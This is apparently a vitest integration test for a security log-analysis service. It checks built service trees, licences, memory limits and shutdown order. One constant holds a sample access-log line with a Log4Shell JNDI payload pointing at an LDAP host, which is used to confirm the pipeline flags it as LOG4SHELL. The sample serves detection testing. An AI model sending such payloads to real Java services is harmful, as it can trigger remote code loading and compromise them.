import { execFile } from 'node:child_process';
import { existsSync, globSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { parseAllDocuments } from 'yaml';
import { freePorts } from '@vigil/dev-services/free-port';
import { startOwnedProcess, type OwnedProcess } from '@vigil/dev-services/owned-process';
import { testServices } from '@vigil/dev-services/test-services';
import { waitUntil } from '@vigil/dev-services/wait-until';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { workloadsOf, type KubeObject } from '../k8s/verify/objects.ts';
import { IMAGES, makeDeployedTrees } from './deployed-trees.ts';

/** What images hold, run as images run it, but for the container: the output of `pnpm deploy --prod` on real servers. */
const SERVICES = ['dispatcher', 'scorer', 'gateway', 'ingestor'] as const;
const KEY = 'vgl_for_the_deployed_test';
const LICENCES = new Set(['MIT', 'ISC', 'BSD-3-Clause', 'Apache-2.0', '0BSD', 'BlueOak-1.0.0', 'Unlicense']);
const ATTACK = `203.0.113.9 - - [23/Nov/2026:12:00:00 +0000] "GET /?x=\${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200 12 "-" "curl/8"`;

const run = promisify(execFile);
const work = mkdtempSync(join(tmpdir(), 'vigil-deployed-'));
const running = new Map<string, OwnedProcess>();
let env: NodeJS.ProcessEnv;
let gatewayUrl: string;
let ingestorUrl: string;

const node = (service: string, ...args: string[]) => ({
  args: ['--conditions=built', 'dist/main.js', ...args],
  cwd: join(work, service),
});

/** Memory that the manifest gives to a service, MiB. */
function memoryOf(service: string): { request: number; limit: number } {
  const manifest = readFileSync(resolve(import.meta.dirname, `../k8s/base/${service}.yaml`), 'utf8');
  const objects = parseAllDocuments(manifest).map((document) => document.toJS() as KubeObject);
  const { requests, limits } = workloadsOf(objects)[0]!.pod.containers[0]!.resources!;
  return {
    request: Number.parseInt(`${requests?.['memory']}`, 10),
    limit: Number.parseInt(`${limits?.['memory']}`, 10),
  };
}

/** The manifests give a share of the container's limit; there is no container here. */
const heapOption = (service: string): string => `--max-old-space-size=${Math.floor(memoryOf(service).limit * 0.75)}`;

async function start(service: string, more: NodeJS.ProcessEnv): Promise<void> {
  const [opsPort] = await freePorts(1);
  const child = await startOwnedProcess({
    name: service,
    command: process.execPath,
    ...node(service),
    env: { ...env, ...more, OPS_PORT: String(opsPort), NODE_OPTIONS: heapOption(service) },
    logFile: join(work, `${service}.log`),
    stopSignal: 'SIGTERM',
    stopTimeoutMs: 30_000,
    startTimeoutMs: 60_000,
    probe: async () => {
      const response = await fetch(`http://127.0.0.1:${opsPort}/ready`);
      if (!response.ok) throw new Error(await response.text());
    },
  });
  running.set(service, child);
}

beforeAll(async () => {
  const { redisUrl, natsUrl, postgresUrl } = await testServices(['redis', 'nats', 'postgres']);
  await makeDeployedTrees(work);
  env = {
    PATH: process.env['PATH'],
    NODE_ENV: 'production',
    HOST: '127.0.0.1',
    REDIS_URL: redisUrl,
    DATABASE_URL: postgresUrl,
    NATS_URL: natsUrl,
    VIGIL_API_KEYS: `test:admin:${KEY}`,
  };
  const { args, cwd } = node('cli', 'migrate');
  await run(process.execPath, args, { cwd, env });
  const [gatewayPort, ingestorPort] = await freePorts(2);
  gatewayUrl = `http://127.0.0.1:${gatewayPort}`;
  ingestorUrl = `http://127.0.0.1:${ingestorPort}`;
  await start('dispatcher', {});
  await start('scorer', {});
  await start('gateway', { PORT: String(gatewayPort) });
  await start('ingestor', { PORT: String(ingestorPort) });
}, 600_000);

afterAll(async () => {
  for (const child of running.values()) await child.stop();
  rmSync(work, { recursive: true, force: true });
}, 120_000);

test('deployed trees hold JavaScript alone, and none of the packages that only development needs', () => {
  for (const image of IMAGES) {
    const packages = readdirSync(join(work, image, 'node_modules/.pnpm'));
    expect(packages.filter((name) => /^(typescript|vitest|oxlint|prettier|vite)@/.test(name))).toEqual([]);
  }
  for (const service of SERVICES) expect(readdirSync(join(work, service))).not.toContain('src');
});

test('every package in an image comes under a licence that asks for no more than to be kept with it', () => {
  const packages = IMAGES.flatMap((image) =>
    globSync(join(work, image, 'node_modules/.pnpm/*/node_modules/{*,@*/*}/package.json')),
  ).map((path) => JSON.parse(readFileSync(path, 'utf8')) as { name: string; license?: unknown });
  expect(packages.length).toBeGreaterThan(300);
  expect(packages.filter(({ license }) => !LICENCES.has(String(license))).map(({ name }) => name)).toEqual([]);
  expect(readFileSync(join(work, 'runtime/licenses/node.txt'), 'utf8')).toContain('Node.js is licensed');
  expect(readFileSync(join(work, 'runtime/licenses/vigil.txt'), 'utf8')).toContain('MIT License');
});

test('an attack that is pushed to the deployed ingestor is told by the deployed gateway', async () => {
  const pushed = await fetch(`${ingestorUrl}/ingest/batch`, {
    method: 'POST',
    headers: { 'x-api-key': KEY, 'content-type': 'text/plain' },
    body: `${ATTACK}\n`,
  });
  expect(pushed.status).toBe(202);
  const found = await waitUntil(
    async () => {
      const response = await fetch(`${gatewayUrl}/threats`, { headers: { 'x-api-key': KEY } });
      const text = await response.text();
      return text.includes('203.0.113.9') ? text : undefined;
    },
    { timeoutMs: 30_000, what: 'the stored threat' },
  );
  expect(found).toContain('LOG4SHELL');
});

test.runIf(existsSync('/proc/self/status')).each(SERVICES)(
  '%s holds no more memory than its manifest requests while it has nothing to do',
  (service) => {
    const status = readFileSync(`/proc/${running.get(service)!.pid}/status`, 'utf8');
    const residentMiB = Number(/^VmRSS:\s+(\d+) kB/m.exec(status)?.[1]) / 1024;
    expect(residentMiB).toBeGreaterThan(0);
    expect(residentMiB).toBeLessThan(memoryOf(service).request);
  },
);

test.each(SERVICES.toReversed())('%s leaves in order on SIGTERM', async (service) => {
  const child = running.get(service)!;
  await child.kill('SIGTERM');
  expect(await child.ended()).toEqual({ code: 0, signal: null });
  running.delete(service);
});
